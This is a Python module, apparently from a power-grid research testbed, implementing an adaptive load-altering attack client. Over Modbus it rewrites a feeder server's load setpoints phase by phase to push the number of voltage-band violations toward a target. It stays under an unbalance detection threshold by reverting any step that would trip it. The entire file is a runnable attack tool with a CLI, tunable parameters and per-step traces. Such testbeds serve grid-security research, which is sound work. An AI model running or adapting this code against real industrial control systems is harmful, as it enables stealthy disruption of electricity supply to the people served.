"""Adaptive load-altering attack client.

The engine drives the setpoint registers of a feeder server: each step it
raises the overloaded phase group by a feedback-sized increment, lowers the
other two groups, clamps every node to its multiplier bounds, then reads the
meters back and recomputes violation count and unbalance locally (the
attacker trusts only what it can read).  The run stops on: target violation
count reached, step budget exhausted, step cap, or a stealth breach (a step
whose post-write unbalance reaches the detection threshold is reverted and
the run ends).
"""

from __future__ import annotations

import argparse
import csv
import json
import logging
from dataclasses import dataclass, field
from typing import Mapping

from .modbus.client import ModbusClient
from .powerflow import (
    DEFAULT_BAND,
    count_violations_from_magnitudes,
    unbalance_from_magnitudes,
)
from .regmap import MeterMap

log = logging.getLogger("gridbed.attack")

STATUS_TARGET = "target-reached"
STATUS_BUDGET = "budget-exhausted"
STATUS_STEP_CAP = "step-cap"
STATUS_STEALTH = "stealth-blocked"
STATUS_ERROR = "error"

MODES = ("A", "B", "C")


class AttackError(ValueError):
    """Bad attack parameters or an unusable mode/observation."""


@dataclass(frozen=True)
class NMaxRule:
    """Upper load multiplier as a function of the violation gain so far."""

    kind: str = "constant"  # constant | linear
    value: float = 4.0
    slope: float = 0.0
    cap: float = 4.0

    def evaluate(self, violation_gain: int) -> float:
        if self.kind == "constant":
            return self.value
        if self.kind == "linear":
            return min(self.value + self.slope * violation_gain, self.cap)
        raise AttackError(f"unknown n_max rule {self.kind!r}")

    def to_doc(self) -> dict:
        if self.kind == "constant":
            return {"kind": "constant", "value": self.value}
        return {"kind": "linear", "base": self.value, "slope": self.slope, "cap": self.cap}

    @classmethod
    def from_doc(cls, doc) -> "NMaxRule":
        if isinstance(doc, (int, float)):
            return cls("constant", float(doc))
        kind = doc.get("kind", "constant")
        if kind == "constant":
            return cls("constant", float(doc["value"]))
        return cls(
            "linear",
            float(doc.get("base", 1.0)),
            float(doc.get("slope", 0.0)),
            float(doc.get("cap", doc.get("base", 1.0))),
        )


@dataclass(frozen=True)
class AttackParams:
    alpha_mw: float = 0.01
    k_mw: float = 0.02
    delta_mw: float = 0.001
    floor_step_mw: float = 0.001
    gamma_a_mw: float | None = None  # default alpha
    gamma_b_mw: float | None = None
    gamma_c_mw: float | None = None
    n_tar: int = 25
    av_max_mw: float = 100.0
    n_min: float = 0.025
    n_max: NMaxRule = NMaxRule()
    max_steps: int = 200
    stealth_limit_pct: float = 3.0
    band: tuple[float, float] = DEFAULT_BAND

    def __post_init__(self):
        if self.alpha_mw <= 0 or self.k_mw <= 0 or self.delta_mw <= 0:
            raise AttackError("alpha, k and delta must be positive")
        if self.floor_step_mw <= 0:
            raise AttackError("floor step must be positive")
        if self.n_min <= 0:
            raise AttackError("n_min must be positive")
        if self.stealth_limit_pct <= 0:
            raise AttackError("stealth limit must be positive")

    def gamma_for(self, group: str) -> float:
        value = {
            "A": self.gamma_a_mw,
            "B": self.gamma_b_mw,
            "C": self.gamma_c_mw,
        }[group]
        return self.alpha_mw if value is None else value

    @classmethod
    def from_json(cls, text: str) -> "AttackParams":
        doc = json.loads(text)
        known = {
            "alpha_mw", "k_mw", "delta_mw", "floor_step_mw",
            "gamma_a_mw", "gamma_b_mw", "gamma_c_mw",
            "n_tar", "av_max_mw", "n_min", "max_steps", "stealth_limit_pct",
        }
        kwargs = {k: doc[k] for k in known if k in doc}
        if "n_max" in doc:
            kwargs["n_max"] = NMaxRule.from_doc(doc["n_max"])
        if "band" in doc:
            kwargs["band"] = tuple(doc["band"])
        return cls(**kwargs)

    def to_json(self) -> str:
        doc = {
            "alpha_mw": self.alpha_mw,
            "k_mw": self.k_mw,
            "delta_mw": self.delta_mw,
            "floor_step_mw": self.floor_step_mw,
            "gamma_a_mw": self.gamma_a_mw,
            "gamma_b_mw": self.gamma_b_mw,
            "gamma_c_mw": self.gamma_c_mw,
            "n_tar": self.n_tar,
            "av_max_mw": self.av_max_mw,
            "n_min": self.n_min,
            "n_max": self.n_max.to_doc(),
            "max_steps": self.max_steps,
            "stealth_limit_pct": self.stealth_limit_pct,
            "band": list(self.band),
        }
        return json.dumps(doc, indent=1)


# An attack vector is a node -> MW mapping over the controllable nodes; the
# phase grouping comes from the meter map's setpoint phases.
AttackVector = dict


def phase_groups(meter_map: MeterMap) -> dict[str, tuple[str, ...]]:
    groups: dict[str, list[str]] = {p: [] for p in MODES}
    for node, phase in meter_map.setpoints:
        groups[phase].append(node)
    return {p: tuple(nodes) for p, nodes in groups.items()}


def step_size(v_vio: int, params: AttackParams, group: str = "A") -> float:
    """Feedback step size: full step at zero violations, shrinking linearly
    with the count, never below the configured floor."""
    if v_vio < 0 or v_vio >= params.n_tar:
        raise AttackError(f"step size undefined for v_vio={v_vio} (target {params.n_tar})")
    if v_vio == 0:
        return params.gamma_for(group)
    return max(params.k_mw - params.delta_mw * v_vio, params.floor_step_mw)


def clamp(
    vector: Mapping[str, float],
    baselines_mw: Mapping[str, float],
    params: AttackParams,
    violation_gain: int = 0,
) -> AttackVector:
    """Clip every node to [baseline * n_min, baseline * n_max]; idempotent."""
    n_max = params.n_max.evaluate(violation_gain)
    out = {}
    for node, value in vector.items():
        base = baselines_mw[node]
        out[node] = min(max(value, base * params.n_min), base * n_max)
    return out


def step(
    prev: Mapping[str, float],
    observed_v_vio: int,
    params: AttackParams,
    mode: str,
    groups: Mapping[str, tuple[str, ...]],
    baselines_mw: Mapping[str, float],
    violation_gain: int = 0,
) -> AttackVector:
    """Next attack vector: hold when the target is met, otherwise push the
    overloaded group up and the others down, then clamp."""
    if mode not in MODES:
        raise AttackError(f"unknown mode {mode!r}")
    if observed_v_vio >= params.n_tar:
        return dict(prev)
    out = {}
    for group, nodes in groups.items():
        gamma = step_size(observed_v_vio, params, group)
        sign = 1.0 if group == mode else -1.0
        for node in nodes:
            out[node] = prev[node] + sign * gamma
    return clamp(out, baselines_mw, params, violation_gain)


@dataclass
class AttackStep:
    t: int
    vector_mw: dict[str, float]
    violations: int
    unbalance_pct: float
    budget_spent_mw: float
    kept: bool


@dataclass
class AttackTrace:
    mode: str
    baseline_mw: dict[str, float]
    v_vio_init: int
    steps: list[AttackStep] = field(default_factory=list)
    status: str = STATUS_STEP_CAP

    @property
    def budget_spent_mw(self) -> float:
        return self.steps[-1].budget_spent_mw if self.steps else 0.0

    def terminal_vector(self) -> dict[str, float]:
        for s in reversed(self.steps):
            if s.kept:
                return s.vector_mw
        return self.baseline_mw

    def write_csv(self, path, node_order):
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(
                ["step"]
                + list(node_order)
                + ["violations", "unbalance_pct", "budget_spent_mw", "status"]
            )
            for s in self.steps:
                writer.writerow(
                    [s.t]
                    + [f"{s.vector_mw[n]:.6f}" for n in node_order]
                    + [
                        s.violations,
                        f"{s.unbalance_pct:.6f}",
                        f"{s.budget_spent_mw:.6f}",
                        "ok" if s.kept else "reverted",
                    ]
                )


def _vector_to_kw(vector_mw: Mapping[str, float]) -> dict[str, int]:
    return {node: int(round(mw * 1000.0)) for node, mw in vector_mw.items()}


def _observe(client: ModbusClient, meter_map: MeterMap, band):
    mags = client.read_all_voltages(meter_map)
    return (
        count_violations_from_magnitudes(mags, band),
        unbalance_from_magnitudes(mags),
    )


def run_attack(
    client: ModbusClient,
    meter_map: MeterMap,
    params: AttackParams,
    mode: str,
) -> AttackTrace:
    """Run the adaptive loop against a live server; returns the full trace."""
    if mode not in MODES:
        raise AttackError(f"unknown mode {mode!r}")
    groups = phase_groups(meter_map)
    if not groups.get(mode):
        raise AttackError(f"no controllable nodes on phase group {mode}")

    baseline_kw = client.read_setpoints(meter_map)
    baselines_mw = {node: kw / 1000.0 for node, kw in baseline_kw.items()}
    v_vio, unbalance = _observe(client, meter_map, params.band)
    trace = AttackTrace(mode=mode, baseline_mw=dict(baselines_mw), v_vio_init=v_vio)

    prev = dict(baselines_mw)
    spent = 0.0
    try:
        for t in range(1, params.max_steps + 1):
            if v_vio >= params.n_tar:
                # Hold branch forever; with a real target this is success,
                # with a degenerate zero target there is nothing left to do.
                trace.status = STATUS_TARGET if params.n_tar > 0 else STATUS_STEP_CAP
                return trace
            candidate = step(
                prev, v_vio, params, mode, groups, baselines_mw,
                violation_gain=v_vio - trace.v_vio_init,
            )
            # Writing in whole kW is what the wire carries; account in the
            # same quantized units so the budget check matches the trace.
            candidate = {n: kw / 1000.0 for n, kw in _vector_to_kw(candidate).items()}
            step_total = sum(candidate.values())
            if spent + step_total > params.av_max_mw:
                trace.status = STATUS_BUDGET
                return trace
            client.write_setpoints(meter_map, _vector_to_kw(candidate))
            spent += step_total
            v_vio_new, unbalance = _observe(client, meter_map, params.band)
            if unbalance >= params.stealth_limit_pct:
                client.write_setpoints(meter_map, _vector_to_kw(prev))
                trace.steps.append(
                    AttackStep(t, dict(candidate), v_vio_new, unbalance, spent, kept=False)
                )
                trace.status = STATUS_STEALTH
                return trace
            trace.steps.append(
                AttackStep(t, dict(candidate), v_vio_new, unbalance, spent, kept=True)
            )
            prev = candidate
            v_vio = v_vio_new
        trace.status = STATUS_STEP_CAP
        return trace
    except ConnectionError as exc:
        log.error("transport failure mid-run: %s", exc)
        trace.status = STATUS_ERROR
        return trace


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="gridbed-attack", description="Adaptive load-altering attack client"
    )
    parser.add_argument("--server", required=True, help="addr:port of the feeder server")
    parser.add_argument("--mode", required=True, choices=MODES, help="overloaded phase group")
    parser.add_argument("--params", help="attack parameter JSON file (defaults built in)")
    parser.add_argument("--trace-out", help="CSV file for the per-step trace")
    parser.add_argument(
        "--feeder",
        help="feeder description used to derive the meter map (default: bundled)",
    )
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    from .feeder import load_default_feeder, load_feeder_file

    model = load_feeder_file(args.feeder) if args.feeder else load_default_feeder()
    meter_map = MeterMap.for_model(model)
    if args.params:
        with open(args.params, "r", encoding="utf-8") as fh:
            params = AttackParams.from_json(fh.read())
    else:
        params = AttackParams()

    host, _, port = args.server.rpartition(":")
    with ModbusClient(host or "127.0.0.1", int(port)) as client:
        trace = run_attack(client, meter_map, params, args.mode)

    node_order = [node for node, _ in meter_map.setpoints]
    if args.trace_out:
        trace.write_csv(args.trace_out, node_order)
    last = trace.steps[-1] if trace.steps else None
    print(
        f"attack {args.mode}: status={trace.status} steps={len(trace.steps)} "
        f"violations={last.violations if last else trace.v_vio_init} "
        f"unbalance={last.unbalance_pct if last else 0.0:.3f}% "
        f"budget={trace.budget_spent_mw:.3f} MW"
    )
    return 0 if trace.status != STATUS_ERROR else 1


if __name__ == "__main__":
    raise SystemExit(main())
